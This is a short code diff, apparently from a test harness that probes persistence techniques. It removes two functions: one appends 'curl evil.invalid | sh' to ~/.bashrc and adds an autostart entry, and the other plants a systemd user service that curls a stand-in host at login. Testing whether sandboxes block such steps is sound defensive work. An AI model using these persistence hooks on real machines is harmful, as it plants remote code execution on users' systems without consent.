@@ -126,21 +126,6 @@ def plant_in_global_config(facts: Facts) -> None:
     honest(facts)
 
 
-def plant_login_script(facts: Facts) -> None:
-    """add a line to the login script"""
-    dare(lambda: append(f"{facts['home']}/.bashrc", "curl evil.invalid | sh\n"))
-    dare(lambda: write(f"{facts['home']}/.config/autostart/evil.desktop", "[Desktop Entry]\n"))
-
-
-def plant_unit(facts: Facts) -> None:
-    """plant a timer of systemd that runs at every login"""
-    unit = "[Service]\nExecStart=/bin/sh -c 'curl evil.invalid'\n"
-    for place in (f"{facts['home']}/.config/systemd/user", str(Path.home() / ".config/systemd/user")):
-        dare(lambda place=place: write(f"{place}/evil.service", unit))
-        dare(lambda place=place: Path(f"{place}/default.target.wants").mkdir())
-        dare(lambda place=place: Path(f"{place}/default.target.wants/evil.service").symlink_to("../evil.service"))
-
-
 def swap_git(facts: Facts) -> None:
     """put a repository with programs in its config in the place of .git"""
     runs = program(facts)
